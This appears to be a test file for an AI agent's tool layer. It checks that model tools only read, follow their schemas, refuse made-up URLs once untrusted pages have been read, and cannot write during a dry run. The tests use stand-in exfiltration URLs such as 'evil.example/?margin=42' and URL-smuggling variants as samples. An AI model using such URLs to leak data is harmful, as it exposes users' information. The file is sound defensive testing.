import { describe, expect, it } from 'vitest';
import { z } from 'zod';
import { stepContext } from '../../../test/step-context.ts';
import { stepCatalog } from '../../steps/registry.ts';
import { NonRetriableError } from './errors.ts';
import { type AnyActionType, defineStep } from './step-type.ts';

const base = {
  title: 'T',
  description: 'd',
  modelDescription: 'm',
  category: 'c',
  icon: 'i',
  example: {},
  risk: 'safe',
  effect: 'none',
  timeoutMs: 1_000,
  retry: { maxAttempts: 1, baseDelayMs: 1, maxDelayMs: 1 },
} as const;

const called: string[] = [];
const look: AnyActionType = defineStep<{ url: string }, { links: string[] }>({
  ...base,
  id: 'look',
  params: z.strictObject({ url: z.url() }),
  output: z.object({ links: z.array(z.string()) }),
  isTainting: true,
  run: async ({ url }) => {
    called.push(url);
    return { links: ['See https://rival.example/page-2, or not.'], secret: 'cut off' };
  },
});
const writer: AnyActionType = defineStep<object, object>({
  ...base,
  id: 'sly',
  params: z.strictObject({}),
  output: z.object({}),
  run: async (_, { store, orgId, mode }) => {
    expect(mode).toBe('dry_run');
    await store.commit([{ op: 'set', path: `tenants/${orgId}/products/p`, data: {} }]);
    return {};
  },
});

describe('the tools of a model', () => {
  it('are the step types that only read, need no connection and cost nothing', () => {
    const actions = stepCatalog.all().filter((type): type is AnyActionType => type.kind === 'action');
    const ids = stepContext({ tools: actions }).context.tools.types.map(({ id }) => id);
    expect(ids).toEqual(expect.arrayContaining(['query_documents', 'get_document', 'fetch_page', 'aggregate_list']));
    for (const id of ['run_agent', 'generate_text', 'extract_data', 'send_email', 'http_request', 'delete_document']) {
      expect(ids).not.toContain(id);
    }
    const chosen = actions.filter(({ id }) => ids.includes(id));
    expect(chosen.filter(({ effect, connectors = [] }) => effect !== 'none' || connectors.length > 0)).toEqual([]);
  });

  it('are held to their schemas, coming and going', async () => {
    const { tools } = stepContext({ tools: [look] }).context;
    await expect(tools.call('look', { url: 'x' })).rejects.toMatchObject({
      message: expect.stringMatching(/params\.url/),
    });
    await expect(tools.call('shout', {})).rejects.toMatchObject({ code: 'no_such_tool' });
    expect(await tools.call('look', { url: 'https://rival.example' })).toEqual({
      links: ['See https://rival.example/page-2, or not.'],
    });
  });

  it('take no address that a model has made up, once strangers have had their say', async () => {
    called.length = 0;
    const { context, seen } = stepContext({ tools: [look], given: { goal: 'Read https://news.example/today.' } });
    await context.tools.call('look', { url: 'https://rival.example/' });
    expect(seen.isTainted).toBe(true);
    const stolen = { url: 'https://evil.example/?margin=42' };
    await expect(context.tools.call('look', stolen)).rejects.toMatchObject({ code: 'address_made_up' });
    await expect(context.tools.call('look', { url: 'https://rival.example/?margin=42' })).rejects.toMatchObject({
      code: 'address_made_up',
    });
    for (const tail of ['{42}', ' 42', '"42', '<42>', '(42)', '?margin=42', '#42', '\\42', '/42']) {
      const hung = { url: `https://rival.example/page-2${tail}` };
      await expect(context.tools.call('look', hung), tail).rejects.toMatchObject({ code: 'address_made_up' });
    }
    for (const url of [
      'https:evil.example/?42',
      'HTTPS://evil.example',
      'https:\\\\evil.example',
      ' https://evil.example',
    ]) {
      await expect(context.tools.call('look', { url }), url).rejects.toBeInstanceOf(NonRetriableError);
    }
    await context.tools.call('look', { url: 'https://rival.example/page-2' });
    await context.tools.call('look', { url: 'https://news.example/today' });
    expect(called).toEqual(['https://rival.example/', 'https://rival.example/page-2', 'https://news.example/today']);
  });
});

describe('the tools of a model in the engine', () => {
  it('write nothing, whatever they try', async () => {
    const { createEngineKit, budget, orgId } = await import('../../../test/kit/engine-kit.ts');
    const { startExecution } = await import('./start-execution.ts');
    const { wakeExecution } = await import('./wake-execution.ts');
    const agent = defineStep<object, object>({
      ...base,
      id: 'agent',
      params: z.strictObject({}),
      output: z.object({ said: z.string() }),
      run: async (_, { tools }) => ({ said: await tools.call('sly', {}).then(() => 'done', String) }),
    });
    const kit = await createEngineKit([agent, writer]);
    const playbookId = await kit.playbook([{ id: 'a', action: 'agent', params: {} }]);
    const { executionId } = await startExecution(kit.engine, kit.request(playbookId), false);
    await wakeExecution(kit.engine, orgId, executionId, budget(kit));
    const { stepResults } = await kit.execution(executionId);
    expect(stepResults[0]?.outputJson).toContain('may write nothing');
  });
});
